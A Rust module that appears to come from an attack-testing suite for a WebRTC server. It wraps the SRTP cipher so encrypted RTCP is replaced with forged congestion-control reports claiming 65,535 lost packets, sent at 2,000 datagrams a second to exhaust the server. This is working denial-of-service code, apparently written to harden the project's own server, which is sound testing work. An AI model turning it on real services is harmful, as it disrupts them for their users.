//! RTCP of good keys that is cheap to send and dear to read.
//!
//! The attackers' WebRTC session writes only honest reports, so its cipher is wrapped in one that
//! writes others in their place before they are sealed.

use crate::field::{Attack, Field, Outcome, Pace, block_on};
use crate::rtc::Link;
use crate::server::{Log, stranger};
use anyhow::{Result, ensure};
use std::cell::Cell;
use std::sync::Arc;
use std::time::Duration;
use str0m::crypto::{
    AeadAes128GcmCipher, AeadAes256GcmCipher, Aes128CmSha1_80Cipher, CryptoError, CryptoProvider,
    SrtpProvider, SupportedAeadAes128Gcm, SupportedAeadAes256Gcm, SupportedAes128CmSha1_80,
};
use zego_proto::msg::LinkKind;

pub const ATTACKS: &[Attack] = &[Attack {
    suite: "rtp",
    name: "reports",
    about: "2,000 datagrams a second of good keys, each with 25 reports about 65,535 packets",
    log: Log::Nowhere,
    run: reports,
}];

/// Begins the payload of a report that is to be replaced.
const MARK: [u8; 8] = [0xee; 8];
/// From the start of that report to the mark: header and two SSRCs.
const BEFORE_MARK: usize = 12;
/// Length of one report of `crafted`.
const REPORT: usize = 40;
/// Reports in one datagram, which stays below 1,100 bytes.
const REPORTS: usize = 25;

thread_local! {
    static SEALED: Cell<usize> = const { Cell::new(0) };
}

fn reports(field: &Field<'_>) -> Result<Outcome> {
    block_on(async {
        let mut client = field.member(0, "rtp", "mallory").await?;
        let mut link = Link::with_crypto(LinkKind::Down, stranger(0), Some(forging()))?;
        let answer = client.offer(LinkKind::Down, 1, link.offer()).await?;
        let answer = answer.map_err(|(_, message)| anyhow::anyhow!(message))?;
        link.connect(&answer, Duration::from_secs(3))?;
        let payload = [&MARK[..], &[0; REPORT * REPORTS - BEFORE_MARK - MARK.len()]].concat();
        let mut pace = Pace::new(2_000);
        while field.running() {
            pace.wait_async().await;
            let mut api = link.rtc.direct_api();
            // The first report of a datagram keeps its header, which is not sealed.
            api.send_pli_feedback(1.into(), 2.into());
            api.send_app_specific_feedback(1.into(), 2.into(), payload.clone());
            link.poll();
        }
        let sent = SEALED.get();
        ensure!(sent > 0, "no report was replaced");
        Ok(Outcome::note(format!("{sent} times {REPORTS} reports")))
    })
}

/// A report about 65,535 packets, none of which came (draft-holmer-rmcat-transport-wide-cc-
/// extensions-01, section 3.1): nine run lengths say it.
fn crafted(count: u8) -> [u8; REPORT] {
    let mut report = [0; REPORT];
    // Transport feedback, format 15, so many words and one.
    report[..4].copy_from_slice(&[0x8f, 205, 0, (REPORT / 4 - 1) as u8]);
    report[7] = 1;
    report[11] = 2;
    report[14..16].copy_from_slice(&u16::MAX.to_be_bytes());
    report[19] = count;
    for run in report[20..38].chunks_exact_mut(2) {
        run.copy_from_slice(&0x1fff_u16.to_be_bytes());
    }
    report
}

/// What is sealed in place of `plain`.
fn forge(plain: &[u8]) -> Vec<u8> {
    let mut forged = plain.to_vec();
    let mark = plain.windows(MARK.len()).position(|at| at == MARK);
    if let Some(start) = mark.and_then(|mark| mark.checked_sub(BEFORE_MARK)) {
        let (reports, _) = forged[start..].as_chunks_mut();
        for (n, report) in reports.iter_mut().enumerate() {
            *report = crafted(n as u8);
        }
        SEALED.set(SEALED.get() + 1);
    }
    forged
}

fn plain() -> CryptoProvider {
    str0m::crypto::from_feature_flags()
}

fn forging() -> Arc<CryptoProvider> {
    Arc::new(CryptoProvider {
        srtp_provider: &Forging,
        ..plain()
    })
}

/// Makes ciphers that forge.
#[derive(Debug)]
struct Forging;

impl SrtpProvider for Forging {
    fn aes_128_cm_sha1_80(&self) -> &'static dyn SupportedAes128CmSha1_80 {
        &Forging
    }

    fn aead_aes_128_gcm(&self) -> &'static dyn SupportedAeadAes128Gcm {
        &Forging
    }

    fn aead_aes_256_gcm(&self) -> &'static dyn SupportedAeadAes256Gcm {
        &Forging
    }

    fn srtp_aes_128_ecb_round(&self, key: &[u8], input: &[u8], output: &mut [u8]) {
        plain()
            .srtp_provider
            .srtp_aes_128_ecb_round(key, input, output);
    }

    fn srtp_aes_256_ecb_round(&self, key: &[u8], input: &[u8], output: &mut [u8]) {
        plain()
            .srtp_provider
            .srtp_aes_256_ecb_round(key, input, output);
    }
}

impl SupportedAes128CmSha1_80 for Forging {
    fn create_cipher(&self, key: [u8; 16], encrypt: bool) -> Box<dyn Aes128CmSha1_80Cipher> {
        let plain = plain().srtp_provider.aes_128_cm_sha1_80();
        Box::new(Forger(plain.create_cipher(key, encrypt)))
    }
}

impl SupportedAeadAes128Gcm for Forging {
    fn create_cipher(&self, key: [u8; 16], encrypt: bool) -> Box<dyn AeadAes128GcmCipher> {
        let plain = plain().srtp_provider.aead_aes_128_gcm();
        Box::new(Forger(plain.create_cipher(key, encrypt)))
    }
}

impl SupportedAeadAes256Gcm for Forging {
    fn create_cipher(&self, key: [u8; 32], encrypt: bool) -> Box<dyn AeadAes256GcmCipher> {
        let plain = plain().srtp_provider.aead_aes_256_gcm();
        Box::new(Forger(plain.create_cipher(key, encrypt)))
    }
}

#[derive(Debug)]
struct Forger<C: ?Sized>(Box<C>);

impl Aes128CmSha1_80Cipher for Forger<dyn Aes128CmSha1_80Cipher> {
    fn encrypt(&mut self, iv: &[u8; 16], input: &[u8], out: &mut [u8]) -> Result<(), CryptoError> {
        self.0.encrypt(iv, &forge(input), out)
    }

    fn decrypt(&mut self, iv: &[u8; 16], input: &[u8], out: &mut [u8]) -> Result<(), CryptoError> {
        self.0.decrypt(iv, input, out)
    }
}

macro_rules! forge_gcm {
    ($cipher:ident) => {
        impl $cipher for Forger<dyn $cipher> {
            fn encrypt(
                &mut self,
                iv: &[u8; 12],
                aad: &[u8],
                input: &[u8],
                output: &mut [u8],
            ) -> Result<(), CryptoError> {
                self.0.encrypt(iv, aad, &forge(input), output)
            }

            fn decrypt(
                &mut self,
                iv: &[u8; 12],
                aads: &[&[u8]],
                input: &[u8],
                output: &mut [u8],
            ) -> Result<usize, CryptoError> {
                self.0.decrypt(iv, aads, input, output)
            }
        }
    };
}

forge_gcm!(AeadAes128GcmCipher);
forge_gcm!(AeadAes256GcmCipher);

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_marked_becomes_reports() {
        let mut plain = vec![7; 4 + REPORT * REPORTS];
        plain[4 + BEFORE_MARK..][..MARK.len()].copy_from_slice(&MARK);
        let forged = forge(&plain);
        assert_eq!(forged.len(), plain.len());
        assert_eq!(forged[..4], plain[..4]);
        assert_eq!(forged[4..44], crafted(0));
        assert_eq!(forged[forged.len() - 40..], crafted(24));
        assert_eq!(forge(&plain[..10]), plain[..10]);
    }
}
